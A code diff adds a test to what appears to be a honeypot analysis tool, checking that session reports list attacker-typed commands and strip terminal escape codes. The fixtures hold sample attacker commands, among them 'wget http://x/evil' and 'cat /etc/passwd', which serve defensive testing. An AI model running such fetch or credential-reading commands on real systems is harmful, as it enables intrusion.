@@ -109,3 +109,28 @@ def test_since_filters_by_the_honeypots_clock(db: Database) -> None:
     later = datetime.fromtimestamp(T0, UTC) + timedelta(seconds=11.5)
     result = CliRunner().invoke(main, ["sessions", "--json", "--since", later.isoformat(), "--db", db.url])
     assert [json.loads(line)["commands"] for line in result.output.splitlines()] == [["id"]]
+
+
+def test_reports_show_the_commands_typed_per_attacker(db: Database) -> None:
+    from dynapot.analysis.report import build_report, render
+
+    rows = story()
+    rows.append(
+        session_row(rec(30, b"wget http://x/\x1b[31mevil\r", pid=80, ppid=1, at=20), HP, "198.18.1.3")
+    )
+    with db.session() as session:
+        session.execute(insert(Session), rows)
+    since = datetime.fromtimestamp(T0, UTC) - timedelta(hours=1)
+    data = build_report(db, since, since + timedelta(hours=2))
+    section = data.sections["high_interaction"]
+    assert [(r["src"], r["commands"]) for r in section] == [
+        ("198.18.1.3", ["wget http://x/evil"]),  # the escape sequence was a terminal's, not typed text
+        (ATTACKER, ["uname -a", "cat /etc/passwd"]),
+        (None, ["id"]),
+    ]
+    assert json.loads(render(data, "json"))["high_interaction"][1]["command"] == "uname -a; cat /etc/passwd"
+    text = render(data, "text")
+    assert "Commands typed on high-interaction honeypots" in text and "(unlinked)" in text
+    html = render(data, "html")
+    assert "uname -a; cat /etc/passwd" in html and "\x1b" not in html
+    assert "high_interaction" in render(data, "csv")
